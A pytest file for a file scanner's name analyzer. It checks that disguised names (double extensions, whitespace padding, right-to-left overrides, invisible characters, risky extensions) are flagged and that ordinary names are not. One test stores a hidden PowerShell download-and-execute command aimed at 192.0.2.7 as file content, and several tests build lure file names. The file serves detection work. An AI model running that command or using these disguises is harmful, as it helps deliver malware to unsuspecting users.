"""The names analyzer: disguised names caught, ordinary names left alone.

Name-only judgements go through the engine's own path for nodes without content (the
registry's analyzers for ``has_content=False``), the same path an encrypted archive member
takes; the rest scan real files built here (a real PE launcher, a real PNG, zips, tars).
"""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile
import zlib

import pytest
import pyzipper
from conftest import node_named, rules_of

from filewall.analyze.names import parse_name, rendered_name
from filewall.engine import ScanContext, ScanOptions
from filewall.extensions import EXTENSIONS, KIND_CLASSES, lookup
from filewall.limits import Limits
from filewall.model import Node
from filewall.registry import analyzers_for

NAME_RULES = {
    "name.double_extension",
    "name.padding",
    "name.bidi_override",
    "name.invisible_characters",
    "name.risky_extension",
    "name.disk_image_extension",
    "name.content_mismatch",
    "name.content_mismatch_harmless",
}


def name_facts(name: str, tmp_path) -> dict[str, dict]:
    """Judge ``name`` as a name-only node (no content), like an unopened encrypted member."""
    node = Node(name=name, path=f"x.zip/{name}", depth=1, has_content=False)
    ctx = ScanContext(ScanOptions(limits=Limits.from_env({})), str(tmp_path))
    for plugin in analyzers_for(node.kind, has_content=False):
        plugin.function(node, None, ctx)
    return {fact.rule: fact.params for fact in node.facts if fact.rule in NAME_RULES}


def png_bytes() -> bytes:
    """A real 1x1 PNG (signature, IHDR, IDAT, IEND with correct CRCs)."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
        + chunk(b"IEND", b"")
    )


def ooxml_bytes(part: str) -> bytes:
    """A minimal Office Open XML package (``word/`` or ``xl/``) built with zipfile."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        )
        package.writestr(
            "_rels/.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>',
        )
        package.writestr(f"{part}/document.xml", "<document/>")
    return buffer.getvalue()


def tar_gz_bytes() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        data = b"hello"
        info = tarfile.TarInfo("hello.txt")
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


# -- ordinary names ---------------------------------------------------------------------------------

ORDINARY_NAMES = [
    "IMG_2024.jpg",
    "photo.JPG",
    "报价单.xlsx",
    "合同 v2 (final).docx",
    "a.tar.gz",
    "report.2024.pdf",
    "产品细节图.png",
    "户型图.dwg",
    "吊牌照片.jpeg",
    "需求说明.txt",
    "发票.pdf",
    "定制需求.zip",
    "参考图.rar",
    "公司资料.7z",
    "图纸 - 副本.pdf",
    "IMG_20240501_123456.HEIC",
    "Screenshot 2024-05-01 at 10.00.00.png",
    "微信图片_20240501.jpg",
    "订单明细(1).xls",
    "report_final_v3.pptx",
    "README.md",
    "data.csv",
    "logo.svg",
    "scan0001.tif",
    "video_2024.mp4",
    "语音.amr",
    "design.psd",
    "contract.signed.pdf",
    "..hidden.txt",
    "file.name.with.dots.docx",
    "简历-张三.doc",
    "price list.xlsx",
    "notes",
    "no_extension_file",
    "CAD图纸_v1.2.dxf",
    "backup.tar",
    "photo (2).png",
    "合同___正式版.docx",
    "2025年4月份第一批信息列表.pdf",
]


def test_at_least_thirty_ordinary_names():
    assert len(ORDINARY_NAMES) >= 30


@pytest.mark.parametrize("name", ORDINARY_NAMES)
def test_ordinary_name_has_no_finding(name, tmp_path):
    assert name_facts(name, tmp_path) == {}


@pytest.mark.parametrize(
    "name, data",
    [
        ("IMG_2024.png", png_bytes()),
        ("合同 v2 (final).docx", ooxml_bytes("word")),
        ("报价单.xlsx", ooxml_bytes("xl")),
        ("a.tar.gz", tar_gz_bytes()),
        ("需求说明.txt", "亲，需要定制 20 件，颜色见图片。".encode()),
        (
            "notes.txt",
            b"powershell -w hidden -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/x')\"",
        ),
    ],
)
def test_ordinary_file_with_matching_content_has_no_name_finding(name, data, scan):
    report = scan(data, name)
    assert not rules_of(report) & NAME_RULES


# -- double extensions -------------------------------------------------------------------------------


def test_double_extension_program_named_like_a_picture(scan, pe_bytes):
    report = scan(pe_bytes, "设计图.jpg.exe")
    finding = next(item for item in report.findings if item.rule == "name.double_extension")
    assert finding.params["decoy"] == ".jpg" and finding.params["real"] == ".exe"
    assert "设计图.jpg.exe" in finding.message_zh and ".exe" in finding.message
    assert report.verdict.value == "malicious"
    # One reason for the disguise: no "risky extension" or "content mismatch" on top.
    assert not rules_of(report) & {"name.risky_extension", "name.content_mismatch", "name.padding"}


@pytest.mark.parametrize(
    "name, decoy",
    [
        ("产品参考图.pdf.exe", ".pdf"),
        ("2025年4月份第一批信息列表pdf.exe", ".pdf"),  # research L3: no dot before "pdf"
        ("2025年4月第二批信息公示pdf.exe", ".pdf"),
        ("Report_xlsx.scr", ".xlsx"),
        ("报价单 docx.com", ".docx"),
        ("订单.pdf.lnk", ".pdf"),
        ("图纸.dwg.bat", ".dwg"),
        ("参考图．jpg.exe", ".jpg"),  # full-width dot
        ("invoice.PDF.EXE", ".pdf"),
        ("发票.pdf.iso", ".pdf"),
    ],
)
def test_double_extension_variants(name, decoy, tmp_path):
    facts = name_facts(name, tmp_path)
    assert set(facts) == {"name.double_extension"}, facts
    assert facts["name.double_extension"]["decoy"] == decoy


@pytest.mark.parametrize("name", ["img2pdf.exe", "wordtopdf.exe", "WinRAR.exe", "setup_x64.exe", "pdf.exe"])
def test_program_names_that_merely_contain_a_document_word(name, tmp_path):
    assert set(name_facts(name, tmp_path)) == {"name.risky_extension"}


# -- padding -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name, count",
    [
        ("design.jpg" + " " * 40 + ".exe", 40),
        ("报价单.jpg" + "\u3000" * 12 + ".exe", 12),
        ("报价单.pdf" + "_" * 30 + ".scr", 30),
        ("image.png" + "." * 20 + "exe", 19),  # the last dot is the separator
        ("photo.jpg" + "\u00a0" * 5 + ".bat", 5),
    ],
)
def test_padding_before_real_extension(name, count, tmp_path):
    facts = name_facts(name, tmp_path)
    assert set(facts) == {"name.padding"}, facts
    assert facts["name.padding"]["count"] == count


def test_padding_in_a_real_zip_member(tmp_path, scan, pe_bytes):
    lure = tmp_path / "定制需求.zip"
    with zipfile.ZipFile(lure, "w") as archive:
        archive.writestr("定制需求/design.jpg" + " " * 40 + ".exe", pe_bytes)
    report = scan(lure.read_bytes(), "定制需求.zip")
    padded = next(item for item in report.findings if item.rule == "name.padding")
    assert padded.params == {
        "count": 40,
        "real": ".exe",
        "decoy": ".jpg",
        "decoy_zh": ".jpg",
        "what": "Windows program",
        "what_zh": "Windows 程序",
    }
    assert "40" in padded.message and "40" in padded.message_zh and "设计图" not in padded.message


def test_a_few_blanks_before_a_harmless_ending_are_fine(tmp_path):
    assert name_facts("photo      .jpg", tmp_path) == {}


# -- right-to-left override and invisible characters ------------------------------------------------------


def test_right_to_left_override_reports_the_real_extension(tmp_path, scan, pe_bytes):
    lure = tmp_path / "rlo.zip"
    with zipfile.ZipFile(lure, "w") as archive:
        archive.writestr("invoice_\u202egpj.exe", pe_bytes)
    report = scan(lure.read_bytes(), "rlo.zip")
    finding = next(item for item in report.findings if item.rule == "name.bidi_override")
    assert finding.params["real"] == ".exe" and finding.params["char"] == "RLO"
    assert finding.params["looks_like"] == "invoice_exe.jpg"
    assert "[RLO]" in finding.message and "\u202e" not in finding.message
    assert not rules_of(report) & {
        "name.double_extension",
        "name.risky_extension",
        "name.invisible_characters",
    }


def test_rendered_name_reverses_after_override():
    assert rendered_name("invoice_\u202egpj.exe") == "invoice_exe.jpg"
    assert rendered_name("ab\u202edc\u202cef.txt") == "abcdef.txt"


@pytest.mark.parametrize(
    "name, chars",
    [
        ("报价单\u200b.docx", "ZWSP"),
        ("photo_\u202egnp.jpg", "RLO"),  # an override with a harmless real ending: invisible, not a disguise
        ("合同\ufeff\u200d.pdf", "BOM, ZWJ"),
        ("订单\u200e.xlsx", "LRM"),
    ],
)
def test_invisible_characters(name, chars, tmp_path):
    facts = name_facts(name, tmp_path)
    assert set(facts) == {"name.invisible_characters"}, facts
    assert facts["name.invisible_characters"]["chars"] == chars


def test_invisible_character_inside_the_ending_makes_it_another_ending(tmp_path):
    # Windows sees ".e<ZWSP>xe", not ".exe": the hidden character is the finding.
    assert set(name_facts("invoice.e\u200bxe", tmp_path)) == {"name.invisible_characters"}


# -- risky extensions --------------------------------------------------------------------------------------

RISKY = [
    ".exe",
    ".scr",
    ".pif",
    ".com",
    ".cpl",
    ".dll",
    ".xll",
    ".msi",
    ".bat",
    ".cmd",
    ".ps1",
    ".vbs",
    ".vbe",
    ".js",
    ".jse",
    ".wsf",
    ".wsh",
    ".hta",
    ".lnk",
    ".url",
    ".chm",
    ".reg",
    ".jar",
    ".msc",
    ".gadget",
    ".application",
    ".appref-ms",
    ".settingcontent-ms",
    ".library-ms",
    ".search-ms",
    ".sct",
    ".inf",
    ".ahk",
    ".au3",
    ".a3x",
    ".psc1",
    ".vb",
    ".ws",
    ".msp",
    ".mst",
    ".scf",
    ".xlam",
    ".ppam",
    ".iqy",
    ".slk",
    ".wll",
    ".msix",
    ".appx",
    ".jnlp",
    ".hlp",
]


@pytest.mark.parametrize("ext", RISKY)
def test_risky_extension_name_only(ext, tmp_path):
    facts = name_facts(f"客户资料{ext}", tmp_path)
    assert set(facts) == {"name.risky_extension"}, facts
    params = facts["name.risky_extension"]
    assert params["ext"] == ext and params["why"] and any("\u4e00" <= c <= "\u9fff" for c in params["why_zh"])


@pytest.mark.parametrize("ext", [".iso", ".img", ".vhd", ".vhdx"])
def test_disk_image_extension_name_only(ext, tmp_path):
    facts = name_facts(f"订单资料{ext}", tmp_path)
    assert set(facts) == {"name.disk_image_extension"}, facts


def test_trailing_dots_and_spaces_are_dropped_like_windows_does(tmp_path):
    facts = name_facts("invoice.exe. . ", tmp_path)
    assert facts["name.risky_extension"]["ext"] == ".exe"


def test_text_named_js_is_still_a_script(scan):
    report = scan(b"var shell = 'TEST-ONLY'; // WScript.Echo(shell);\r\n", "说明.js")
    assert node_named(report, "说明.js").kind == "text"
    assert "name.risky_extension" in rules_of(report)
    assert report.verdict.value == "malicious"


def test_real_program_named_exe_is_not_reported_twice(scan, pe_bytes):
    report = scan(pe_bytes, "setup.exe")
    assert "type.executable" in rules_of(report)
    assert not rules_of(report) & NAME_RULES


def test_encrypted_member_is_judged_by_name_alone(tmp_path, scan, pe_bytes):
    lure = tmp_path / "参考图.zip"
    with pyzipper.AESZipFile(
        lure, "w", compression=pyzipper.ZIP_DEFLATED, encryption=pyzipper.WZ_AES
    ) as archive:
        archive.setpassword(b"no-one-knows-this-7Qx")
        archive.writestr("参考图.jpg.exe", pe_bytes)
        archive.writestr("说明.txt", b"hello")
    report = scan(lure.read_bytes(), "参考图.zip")
    member = node_named(report, "参考图.jpg.exe")
    assert not member.has_content
    assert "name.double_extension" in {fact.rule for fact in member.facts}
    assert "name.double_extension" not in {fact.rule for fact in node_named(report, "说明.txt").facts}


# -- content that does not match its name ------------------------------------------------------------------


def test_program_named_like_a_picture(scan, pe_bytes):
    report = scan(pe_bytes, "photo.jpg")
    finding = next(item for item in report.findings if item.rule == "name.content_mismatch")
    assert finding.params["claimed"] == ".jpg" and finding.params["actual"] == "a Windows program"
    assert "Windows 程序" in finding.message_zh and "photo.jpg" in finding.message
    assert report.verdict.value == "malicious"


def test_png_named_jpg_is_harmless_information(scan):
    report = scan(png_bytes(), "IMG_2024.jpg")
    assert rules_of(report) & NAME_RULES == {"name.content_mismatch_harmless"}
    finding = next(item for item in report.findings if item.rule == "name.content_mismatch_harmless")
    assert finding.severity.value == "info" and "PNG" in finding.message and "PNG 图片" in finding.message_zh
    assert report.verdict.value == "clean"


def test_shortcut_content_under_a_document_name(scan):
    import pylnk3
    lnk = pylnk3.for_file(r"C:\Windows\System32\cmd.exe", arguments="/c echo TEST-ONLY")
    buffer = io.BytesIO()
    lnk.write(buffer)
    report = scan(buffer.getvalue(), "报价单.docx")
    finding = next(item for item in report.findings if item.rule == "name.content_mismatch")
    assert finding.params["actual"] == "a Windows shortcut"


# -- the extension table --------------------------------------------------------------------------------------


def test_extension_table_is_consistent():
    for ext, entry in EXTENSIONS.items():
        assert ext == ext.lower() and not ext.startswith(".")
        assert entry.en and any("\u4e00" <= c <= "\u9fff" or c.isascii() for c in entry.zh)
        for kind in entry.kinds:
            assert kind in KIND_CLASSES or kind == "empty", (ext, kind)
    for ext in RISKY:
        assert lookup(ext).runs_code, ext
    for ext in ("jpg", "pdf", "docx", "zip", "txt", "dwg"):
        assert not lookup(ext).runs_code


def test_parse_name_windows_rules():
    parts = parse_name("报价单.PDF.exe ")
    assert (parts.ext, parts.stem, parts.entry.cls.id) == ("exe", "报价单.PDF", "program")
    assert parse_name("README").ext == ""


# -- the other name of a zip member: its local header's --------------------------------------------
def _renamed_in_directory(data: bytes, listed: str) -> bytes:
    """A one-member zip whose directory lists the member as ``listed``; its local header
    keeps the name it was written with (what streaming unzippers show)."""
    end = data.rindex(b"PK\x05\x06")
    offset = struct.unpack_from("<I", data, end + 16)[0]
    name_length = struct.unpack_from("<H", data, offset + 28)[0]
    name = listed.encode()
    entry = data[offset : offset + 28] + struct.pack("<H", len(name)) + data[offset + 30 : offset + 46] + name
    entry += data[offset + 46 + name_length : end]  # extra field and comment
    eocd = bytearray(data[end:])
    struct.pack_into("<I", eocd, 12, len(entry))
    return data[:offset] + entry + bytes(eocd)


@pytest.mark.parametrize(
    ("local", "rule"),
    [
        ("照片.jpg.js", "name.double_extension"),
        ("照片.js", "name.risky_extension"),
        ("照片\u202egpj.js", "name.bidi_override"),
    ],
)
def test_local_header_name_is_judged_too(scan, local, rule):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(local, b"size chart, colour red")
    data = _renamed_in_directory(buffer.getvalue(), "照片.jpg")
    assert zipfile.ZipFile(io.BytesIO(data)).namelist() == ["照片.jpg"]
    report = scan(data, "照片.zip")
    member = node_named(report, "照片.jpg")
    assert member.info["local_name"] == local
    finding = next(f for f in report.findings if f.rule == rule)
    assert finding.where == "照片.zip/照片.jpg"
    assert "listed as 照片.jpg" in finding.message and "目录里叫 照片.jpg" in finding.message_zh
    assert {"archive.name_mismatch", rule} <= rules_of(report)
    assert report.verdict.value == "malicious"


def test_same_local_name_in_another_folder_is_not_judged_twice(scan):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a/尺码.txt", b"size chart")
    data = _renamed_in_directory(buffer.getvalue(), "b/尺码.txt")
    report = scan(data, "尺码.zip")
    assert node_named(report, "尺码.txt").info["local_name"] == "a/尺码.txt"
    assert rules_of(report) & NAME_RULES == set()
    assert rules_of(report) == {"archive.name_mismatch"}
